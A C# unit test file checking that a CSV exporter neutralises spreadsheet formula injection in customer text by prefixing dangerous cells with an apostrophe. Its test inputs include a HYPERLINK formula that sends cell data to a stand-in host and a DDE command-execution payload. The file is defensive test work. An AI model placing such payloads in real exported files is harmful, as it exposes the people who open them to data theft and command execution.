using CSat.Cli.Csv;

namespace CSat.Cli.Tests.Csv;

/// <summary>Case 14: text of customers in a file that is made to be opened in a spreadsheet program.</summary>
public sealed class RejectedCellsTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://example.invalid/?\"&A1,\"details\")")]
    [InlineData("@SUM(1+1)")]
    [InlineData("-10 would not come again")]
    [InlineData("+86 10 5555 0100")]
    [InlineData("\tindented")]
    [InlineData("\rreturned")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－x")]
    [InlineData("＠x")]
    [InlineData("  =1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\u3000=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("+")]
    [InlineData("-")]
    [InlineData("'=1")]
    [InlineData("'tis")]
    [InlineData("''")]
    [InlineData("'")]
    public void A_cell_that_a_spreadsheet_would_run_is_made_text_and_taken_back(string cell)
    {
        RejectedCells.Guarded(cell).ShouldBe("'" + cell);
        RejectedCells.Restored("'" + cell).ShouldBe(cell);
    }

    [Theory]
    [InlineData("-10")]
    [InlineData("+5")]
    [InlineData("-1.5e3")]
    [InlineData("-1,234.5")]
    [InlineData("12")]
    [InlineData("a=b")]
    [InlineData("")]
    [InlineData("很好")]
    [InlineData("it's")]
    public void Numbers_and_plain_text_stay(string cell)
    {
        RejectedCells.Guarded(cell).ShouldBe(cell);
        RejectedCells.Restored(cell).ShouldBe(cell);
    }

    [Fact]
    public void An_apostrophe_that_somebody_wrote_into_the_corrected_file_stays() => RejectedCells.Restored("'tis").ShouldBe("'tis");
}
